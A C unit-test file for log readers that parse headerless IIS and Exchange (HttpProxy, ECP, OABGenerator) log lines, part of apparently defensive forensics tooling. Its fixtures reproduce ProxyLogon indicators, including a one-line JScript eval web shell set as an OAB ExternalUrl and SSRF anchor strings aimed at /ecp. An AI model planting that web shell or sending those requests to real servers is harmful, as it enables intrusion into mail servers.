/*
 * test_fragments.c - unit tests for logs without their header: IIS W3C lines
 * in IIS's default layouts, Exchange HttpProxy rows, ECP Server and
 * OABGenerator lines; the sniffers that claim them (and do not claim plain
 * text, CSV or a web page); and the "looks like, cannot read" sniff band.
 * Readers run on memory buffers (sp_reader_run_buffer); no files.
 *
 * The fixtures are written for this test, shaped like published lines:
 *  - IIS: the ProxyLogon requests CISA's CHIRP looks for in IIS logs
 *    (POST /ecp/y.js, python-requests/2.25.1, ExchangeServicesClient/0.0.0.0;
 *    AA21-062A, https://github.com/cisagov/CHIRP, indicators/AA21062A.yaml)
 *    in the default field order (see src/readers/iis.c for its sources);
 *  - ECP Server: the Set-OabVirtualDirectory ExternalUrl line of Wazuh's
 *    ruleset test (https://github.com/wazuh/wazuh,
 *    ruleset/testing/tests/exchange.ini) and Volexity's description
 *    (https://www.volexity.com/blog/2021/03/02/active-exploitation-of-
 *    microsoft-exchange-zero-day-vulnerabilities/);
 *  - OABGenerator: the message Microsoft's HAFNIUM post searches for,
 *    "Download failed and temporary file" (https://www.microsoft.com/
 *    security/blog/2021/03/02/hafnium-targeting-exchange-servers/);
 *  - HttpProxy: Wazuh's Exchange 15.0 row (64 columns) and the Exchange
 *    2016 column order (74 columns).
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>

#include "readers/lines.h"
#include "readers/shape.h"
#include "readtest.h"

/* IIS 8.0+ default layout (15 fields), no header. */
static const char iis15[] =
    "2021-03-03 06:59:10 10.1.2.10 POST /ecp/y.js "
    "&CorrelationID=<empty>;&cafeReqId=9531985d-5d9d-c9f8-1818-e811892f902b; "
    "443 - 203.0.113.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 210\r\n"
    "2021-03-03 06:59:13 10.1.2.10 POST /ecp/y.js - 443 - 203.0.113.66 "
    "python-requests/2.25.1 - 241 0 0 95\r\n"
    "2021-03-05 03:06:27 10.1.2.10 POST /aspnet_client/system_web/xy.aspx - "
    "443 - 198.51.100.77 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) "
    "https://mail.example/owa/ 200 0 0 133\r\n";

static void test_iis_default_layout(void **state) {
  (void)state;
  assert_string_equal(sniffed(iis15), "iis");
  got *g = rt_run("iis", iis15, strlen(iis15));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 3);
  assert_int_equal(g->kind[0], SP_SRC_IIS);
  assert_int_equal(g->line[0], 1);
  assert_int_equal(g->ts[0], 1614754750000000000LL); /* 2021-03-03 06:59:10 */
  assert_string_equal(F(g, 0, SP_F_DESTINATION_IP), "10.1.2.10");
  assert_string_equal(F(g, 0, SP_F_HTTP_METHOD), "POST");
  assert_string_equal(F(g, 0, SP_F_URL_PATH), "/ecp/y.js");
  assert_string_equal(F(g, 0, SP_F_URL_QUERY),
                      "&CorrelationID=<empty>;&cafeReqId=9531985d-5d9d-c9f8-"
                      "1818-e811892f902b;");
  assert_string_equal(F(g, 0, SP_F_DESTINATION_PORT), "443");
  assert_string_equal(F(g, 0, SP_F_USER_NAME), "");
  assert_string_equal(F(g, 0, SP_F_SOURCE_IP), "203.0.113.66");
  assert_string_equal(F(g, 0, SP_F_USER_AGENT),
                      "ExchangeServicesClient/0.0.0.0");
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "200");
  assert_string_equal(F(g, 0, SP_F_EVENT_DURATION_MS), "210");
  assert_string_equal(F(g, 1, SP_F_HTTP_STATUS), "241");
  assert_string_equal(F(g, 2, SP_F_URL_PATH),
                      "/aspnet_client/system_web/xy.aspx");
  assert_string_equal(F(g, 2, SP_F_USER_AGENT),
                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
  assert_string_equal(F(g, 2, SP_F_HTTP_REFERRER), "https://mail.example/owa/");
  free(g);
}

/* IIS 7.0/7.5 default layout (no cs(Referer)), then a #Fields directive
 * that takes over, and lines of neither shape before it. */
static void test_iis_older_layout_then_fields(void **state) {
  (void)state;
  const char log[] =
      "2021-03-03 07:00:01 10.1.2.10 GET /owa/auth/logon.aspx - 443 - "
      "198.51.100.1 Mozilla/5.0 302 0 0 15\r\n"
      "2021-03-03 07:00:02 10.1.2.10 POST /owa/auth.owa - 443 CORP\\alice "
      "198.51.100.1 Mozilla/5.0 200 0 64 40\r\n"
      "not a log line\r\n"
      "#Fields: date time c-ip cs-uri-stem sc-status\r\n"
      "2021-03-03 07:00:03 198.51.100.2 /ecp/ 401\r\n"
      /* a default-shaped line no longer switches the layout back */
      "2021-03-03 07:00:04 10.1.2.10 GET /owa/ - 443 - 198.51.100.1 x 200 0 "
      "0 1\r\n";
  assert_string_equal(sniffed(log), "iis");
  got *g = rt_run("iis", log, strlen(log));
  assert_int_equal(g->n, 3);
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "302");
  assert_string_equal(F(g, 0, SP_F_EVENT_DURATION_MS), "15");
  assert_string_equal(F(g, 0, SP_F_HTTP_REFERRER), "");
  assert_string_equal(F(g, 1, SP_F_USER_NAME), "CORP\\alice");
  assert_string_equal(F(g, 1, SP_F_USER_AGENT), "Mozilla/5.0");
  assert_int_equal(g->line[2], 5);
  assert_string_equal(F(g, 2, SP_F_SOURCE_IP), "198.51.100.2");
  assert_string_equal(F(g, 2, SP_F_HTTP_STATUS), "401");
  assert_int_equal(g->n_bad, 2);
  assert_int_equal(g->bad_line[0], 3);
  assert_int_equal(g->bad_line[1], 6);
  assert_string_equal(g->bad_reason[1], "more values than #Fields columns");
  free(g);
}

/* Both default layouts in one fragment (a server upgraded mid-file). */
static void test_iis_layouts_mixed(void **state) {
  (void)state;
  const char log[] =
      "2021-03-03 07:00:01 ::1 GET /owa/ - 443 - ::1 Mozilla/5.0 302 0 0 "
      "15\n"
      "2021-03-03 07:00:02 fe80::1%12 GET /owa/ - 443 - 10.0.0.7 UA - 200 "
      "0 0 7\n";
  got *g = rt_run("iis", log, strlen(log));
  assert_int_equal(g->n, 2);
  assert_int_equal(g->n_bad, 0);
  assert_string_equal(F(g, 0, SP_F_SOURCE_IP), "::1");
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "302");
  assert_string_equal(F(g, 1, SP_F_DESTINATION_IP), "fe80::1%12");
  assert_string_equal(F(g, 1, SP_F_HTTP_STATUS), "200");
  free(g);
}

static const char ecp_frag[] =
    "2021-03-03T06:59:14.518Z,EXCH01,ECP.Request,\"S:TIME=60;S:SID=c6f87718-"
    "6d76-b07e-881e-d162ae2eb154;S:CMD=Get-OabVirtualDirectory;S:REQID=;S:URL="
    "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&"
    "msExchEcpCanary=x.&a=%5D:444/ecp/y.js;S:EX=;S:RS=0;S:BLD=15.1.2176.2\""
    "\r\n"
    "2021-03-03T06:59:17.960Z,EXCH01,ECP.Request,\"S:TIME=4365;S:SID=3f98e277-"
    "4cbd-87ad-5c90-a9587403e430;'S:CMD=Set-OabVirtualDirectory.ExternalUrl="
    "''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
    "function Page_Load(){eval(Request[\"\"p\"\"],\"\"unsafe\"\");}</script>"
    "''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;S:URL="
    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&"
    "msExchEcpCanary=x.&a=%5D:444/ecp/y.js;S:EX=;S:RS=0;S:BLD=15.1.2176.2\""
    "\r\n";

static void test_ecp_fragment(void **state) {
  (void)state;
  assert_string_equal(sniffed(ecp_frag), "exchange_csv");
  got *g = rt_run("exchange_csv", ecp_frag, strlen(ecp_frag));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 2);
  assert_int_equal(g->kind[1], SP_SRC_EXCH_ECP);
  assert_int_equal(g->ts[1], 1614754757960000000LL);
  assert_string_equal(F(g, 1, SP_F_HOST_NAME), "EXCH01");
  assert_string_equal(F(g, 1, SP_F_EVENT_ACTION), "ECP.Request");
  assert_string_equal(F(g, 1, SP_F_EXCH_ECP_CMD),
                      "Set-OabVirtualDirectory.ExternalUrl='http://f/<script "
                      "language=\"JScript\" runat=\"server\">function "
                      "Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'"
                      ".Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'");
  assert_string_equal(F(g, 1, SP_F_URL_PATH),
                      "/ecp/DDI/DDIService.svc/SetObject");
  assert_string_equal(F(g, 1, SP_F_EXCH_BUILD), "15.1.2176.2");
  assert_string_equal(F(g, 0, SP_F_EXCH_ECP_CMD), "Get-OabVirtualDirectory");
  free(g);
}

/* A #Log-type without #Fields implies its type's layout. */
static void test_log_type_without_fields(void **state) {
  (void)state;
  char buf[2048];
  snprintf(buf, sizeof buf, "#Log-type: ECP Server Log\r\n%s", ecp_frag);
  got *g = rt_run("exchange_csv", buf, strlen(buf));
  assert_int_equal(g->n, 2);
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->kind[0], SP_SRC_EXCH_ECP);
  assert_string_equal(F(g, 0, SP_F_EXCH_BUILD), "15.1.2176.2");
  free(g);
  /* Another log type without #Fields still cannot be read. */
  snprintf(buf, sizeof buf, "#Log-type: Rpc Client Access Log\r\n%s", ecp_frag);
  g = rt_run("exchange_csv", buf, strlen(buf));
  assert_int_equal(g->n, 0);
  assert_int_equal(g->n_bad, 2);
  free(g);
}

static const char oab_frag[] =
    "2021-03-03T06:59:21.000Z,EXCH01,Download failed and temporary file "
    "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx' needs to be "
    "removed\r\n"
    "2021-03-04T02:00:00.000Z,EXCH01,Download failed and temporary file "
    "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\"
    "Temp\\oab.tmp' needs to be removed\r\n";

static void test_oab_fragment(void **state) {
  (void)state;
  assert_string_equal(sniffed(oab_frag), "exchange_csv");
  got *g = rt_run("exchange_csv", oab_frag, strlen(oab_frag));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 2);
  assert_int_equal(g->kind[0], SP_SRC_EXCH_OABGEN);
  assert_int_equal(g->ts[0], 1614754761000000000LL);
  assert_string_equal(F(g, 0, SP_F_HOST_NAME), "EXCH01");
  assert_string_equal(F(g, 0, SP_F_MESSAGE),
                      "Download failed and temporary file "
                      "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x."
                      "aspx' needs to be removed");
  free(g);
}

/* One HttpProxy row of `ncols` columns with the given values set. */
static void hp_row(char *buf, size_t cap, int ncols, const char *const *vals,
                   const int *at, size_t nvals) {
  size_t o = 0;
  for (int c = 1; c <= ncols; c++) {
    const char *v = "";
    for (size_t k = 0; k < nvals; k++)
      if (at[k] == c)
        v = vals[k];
    o += (size_t)snprintf(buf + o, cap - o, "%s%s", c > 1 ? "," : "", v);
  }
  snprintf(buf + o, cap - o, "\r\n");
}

static void test_httpproxy_fragment(void **state) {
  (void)state;
  /* 1-based columns of the Exchange 2016 order. */
  static const int at[] = {1,  2,  3,  4,  5,  6,  8,  10, 16, 17, 18,
                           19, 20, 21, 23, 25, 29, 32, 33, 64, 66};
  static const char *const v16[] = {"2021-03-03T06:59:13.030Z",
                                    "a8e2c1a4-4c26-4b6f-9d0b-3c0e7d8f5a11",
                                    "15",
                                    "1",
                                    "2176",
                                    "2",
                                    "Ecp",
                                    "/ecp/y.js",
                                    "ServerInfo~a]@EXCH01:444/ecp/"
                                    "proxyLogon.ecp?#",
                                    "python-requests/2.25.1",
                                    "203.0.113.66",
                                    "EXCH01",
                                    "241",
                                    "241",
                                    "POST",
                                    "EXCH01",
                                    "",
                                    "1234",
                                    "567",
                                    "88",
                                    "?x=1"};
  char log[8192];
  size_t o = 0;
  for (int r = 0; r < 2; r++) {
    hp_row(log + o, sizeof log - o, 74, v16, at, sizeof at / sizeof at[0]);
    o += strlen(log + o);
  }
  /* An Exchange 15.0 row: 64 columns, the same first 33. */
  static const char *const v13[] = {"2021-04-06T14:54:34.255Z",
                                    "61d2c86f-f9bb-456d-88c0-3529172510ac",
                                    "15",
                                    "0",
                                    "847",
                                    "30",
                                    "Ecp",
                                    "/ecp/lkO.js",
                                    "ServerInfo~Admin@EXCH02:444/ecp/DDI/"
                                    "DDIService.svc/GetList?#",
                                    "Mozilla/5.0",
                                    "192.168.0.127",
                                    "EXCH02",
                                    "200",
                                    "200",
                                    "POST",
                                    "exch02",
                                    "",
                                    "159",
                                    "598",
                                    "not-a-duration",
                                    "not-a-query"};
  hp_row(log + o, sizeof log - o, 64, v13, at, sizeof at / sizeof at[0]);
  assert_string_equal(sniffed(log), "exchange_csv");
  got *g = rt_run("exchange_csv", log, strlen(log));
  assert_int_equal(g->n_bad, 0);
  assert_int_equal(g->n, 3);
  assert_int_equal(g->kind[0], SP_SRC_EXCH_HTTPPROXY);
  assert_int_equal(g->ts[0], 1614754753030000000LL);
  assert_string_equal(F(g, 0, SP_F_EXCH_PROTOCOL), "Ecp");
  assert_string_equal(F(g, 0, SP_F_URL_PATH), "/ecp/y.js");
  assert_string_equal(F(g, 0, SP_F_EXCH_ANCHOR),
                      "ServerInfo~a]@EXCH01:444/ecp/proxyLogon.ecp?#");
  assert_string_equal(F(g, 0, SP_F_USER_AGENT), "python-requests/2.25.1");
  assert_string_equal(F(g, 0, SP_F_SOURCE_IP), "203.0.113.66");
  assert_string_equal(F(g, 0, SP_F_HOST_NAME), "EXCH01");
  assert_string_equal(F(g, 0, SP_F_HTTP_STATUS), "241");
  assert_string_equal(F(g, 0, SP_F_EXCH_BACKEND_STATUS), "241");
  assert_string_equal(F(g, 0, SP_F_HTTP_METHOD), "POST");
  assert_string_equal(F(g, 0, SP_F_EXCH_TARGET), "EXCH01");
  assert_string_equal(F(g, 0, SP_F_HTTP_BYTES_IN), "1234");
  assert_string_equal(F(g, 0, SP_F_HTTP_BYTES_OUT), "567");
  assert_string_equal(F(g, 0, SP_F_EVENT_DURATION_MS), "88");
  assert_string_equal(F(g, 0, SP_F_URL_QUERY), "?x=1");
  /* The 64-column row: shared columns mapped, the rest not guessed. */
  assert_int_equal(g->kind[2], SP_SRC_EXCH_HTTPPROXY);
  assert_string_equal(F(g, 2, SP_F_EXCH_ANCHOR),
                      "ServerInfo~Admin@EXCH02:444/ecp/DDI/DDIService.svc/"
                      "GetList?#");
  assert_string_equal(F(g, 2, SP_F_HTTP_BYTES_OUT), "598");
  assert_string_equal(F(g, 2, SP_F_EVENT_DURATION_MS), "");
  assert_string_equal(F(g, 2, SP_F_URL_QUERY), "");
  free(g);
}

/* The engine sniffs the first SP_SNIFF_BYTES, which may end inside a line:
 * the cut line does not count against the fragment. */
static void test_sniff_cut_buffer(void **state) {
  (void)state;
  char *buf = malloc(3 * SP_SNIFF_BYTES);
  assert_non_null(buf);
  const char *const frags[] = {iis15, ecp_frag, oab_frag};
  const char *const want[] = {"iis", "exchange_csv", "exchange_csv"};
  for (size_t k = 0; k < 3; k++) {
    size_t n = 0, fl = strlen(frags[k]);
    while (n + fl < 3 * SP_SNIFF_BYTES) {
      memcpy(buf + n, frags[k], fl);
      n += fl;
    }
    for (size_t cut = SP_SNIFF_BYTES - 200; cut <= SP_SNIFF_BYTES; cut += 7) {
      const sp_reader_vt *vt = sp_reader_sniff(buf, cut);
      assert_non_null(vt);
      assert_string_equal(vt->name, want[k]);
    }
  }
  free(buf);
}

/* Plain text, CSV, a web page and application logs are not claimed; most
 * are not even "looks like". */
static void test_not_claimed(void **state) {
  (void)state;
  static const char *const texts[] = {
      "Meeting notes\nWe saw POST /ecp/y.js from 203.0.113.66 on 2021-03-03.\n"
      "Follow up tomorrow.\n",
      "name,value,unit\nalpha,1,kg\nbeta,2,kg\ngamma,3,kg\n",
      "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid "
      "Page_Load(object s, EventArgs e) { Response.Write(\"ok\"); }\n"
      "</script>\n",
      "2021-03-03 10:00:00 INFO service started\n"
      "2021-03-03 10:00:01 WARN disk space low on C:\n"
      "2021-03-03 10:00:02 INFO GET finished\n",
      "192.0.2.1 - - [03/Mar/2021:06:59:10 +0000] \"POST /ecp/y.js HTTP/1.1\" "
      "200 512\n192.0.2.1 - - [03/Mar/2021:06:59:11 +0000] \"GET / "
      "HTTP/1.1\" 200 10\n",
  };
  for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
    assert_null(sniffed(texts[i]));
    assert_null(looks_like(texts[i]));
  }
  /* One default-shaped IIS line among prose is not enough. */
  const char one[] = "notes:\n2021-03-03 06:59:13 10.1.2.10 POST /ecp/y.js - "
                     "443 - 203.0.113.66 x - 241 0 0 95\nmore notes\nend\n";
  assert_null(sniffed(one));
}

/* W3C lines of a custom layout and Exchange-style CSV rows of an unknown
 * shape, without a header: not readable, but not a plain file either. */
static void test_looks_like(void **state) {
  (void)state;
  const char w3c[] =
      "2021-03-03 06:59:10 W3SVC1 EXCH01 10.1.2.10 POST /ecp/y.js - 443 - "
      "203.0.113.66 HTTP/1.1 python-requests/2.25.1 - - mail.example 241 0 "
      "0 1200 700 95\n"
      "2021-03-03 06:59:11 W3SVC1 EXCH01 10.1.2.10 GET /owa/ - 443 - "
      "203.0.113.66 HTTP/1.1 python-requests/2.25.1 - - mail.example 302 0 "
      "0 1200 700 95\n";
  assert_null(sniffed(w3c));
  assert_string_equal(looks_like(w3c), "iis");
  got *g = rt_run("iis", w3c, strlen(w3c));
  assert_int_equal(g->n, 0);
  assert_int_equal(g->n_bad, 2);
  free(g);
  const char csv[] = "2021-03-03T06:59:10.000Z,EXCH01,Transport,42,1,0\n"
                     "2021-03-03T06:59:11.000Z,EXCH01,Transport,43,1,0\n";
  assert_null(sniffed(csv));
  assert_string_equal(looks_like(csv), "exchange_csv");
  /* A single HttpProxy row is too little to claim, not to report. */
  const char one[] =
      "2021-03-03T06:59:13.030Z,a8e2c1a4-4c26-4b6f-9d0b-3c0e7d8f5a11,15,1,"
      "2176,2,,Ecp,mail.example,/ecp/y.js\n";
  assert_null(sniffed(one));
  assert_string_equal(looks_like(one), "exchange_csv");
  /* OABGenerator-shaped lines that never mention the OAB. */
  const char oabish[] = "2021-03-03T06:59:10.000Z,EXCH01,Service started\n"
                        "2021-03-03T06:59:11.000Z,EXCH01,Service stopped\n";
  assert_null(sniffed(oabish));
  assert_string_equal(looks_like(oabish), "exchange_csv");
  /* Claimed files are not "looks like". */
  assert_null(looks_like(iis15));
  assert_null(looks_like(ecp_frag));
}

/* The shape predicates on their edges. */
static void test_shapes(void **state) {
  (void)state;
  assert_true(sp_shape_ip(SP_STR_LIT("203.0.113.66")));
  assert_false(sp_shape_ip(SP_STR_LIT("203.0.113.256")));
  assert_false(sp_shape_ip(SP_STR_LIT("1.2.3")));
  assert_false(sp_shape_ip(SP_STR_LIT("1.2.3.4.5")));
  assert_true(sp_shape_ip(SP_STR_LIT("2001:db8::1")));
  assert_true(sp_shape_ip(SP_STR_LIT("::ffff:192.0.2.1")));
  assert_false(sp_shape_ip(SP_STR_LIT("::ffff:192.0.2.")));
  assert_false(sp_shape_ip(SP_STR_LIT("12:30")));
  assert_false(sp_shape_ip(SP_STR_LIT("")));
  assert_true(
      sp_shape_guid(SP_STR_LIT("61d2c86f-f9bb-456d-88c0-3529172510ac")));
  assert_false(
      sp_shape_guid(SP_STR_LIT("61d2c86f-f9bb-456d-88c0+3529172510ac")));
  assert_true(sp_shape_http_method(SP_STR_LIT("RPC_IN_DATA")));
  assert_false(sp_shape_http_method(SP_STR_LIT("get")));
  assert_true(sp_shape_iso8601(SP_STR_LIT("2021-03-03T06:59:13.030Z")));
  assert_false(sp_shape_iso8601(SP_STR_LIT("2021-03-03")));
  assert_true(sp_shape_uint(SP_STR_LIT("241"), 3));
  assert_false(sp_shape_uint(SP_STR_LIT("2410"), 3));
  sp_str t[3];
  assert_int_equal(sp_shape_split(SP_STR_LIT("a,b"), ',', t, 2), 2);
  assert_int_equal(sp_shape_split(SP_STR_LIT("a,b,c"), ',', t, 2), 3);
  assert_int_equal(sp_shape_split(SP_STR_LIT(""), ',', t, 2), 1);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_iis_default_layout),
      cmocka_unit_test(test_iis_older_layout_then_fields),
      cmocka_unit_test(test_iis_layouts_mixed),
      cmocka_unit_test(test_ecp_fragment),
      cmocka_unit_test(test_log_type_without_fields),
      cmocka_unit_test(test_oab_fragment),
      cmocka_unit_test(test_httpproxy_fragment),
      cmocka_unit_test(test_sniff_cut_buffer),
      cmocka_unit_test(test_not_claimed),
      cmocka_unit_test(test_looks_like),
      cmocka_unit_test(test_shapes),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
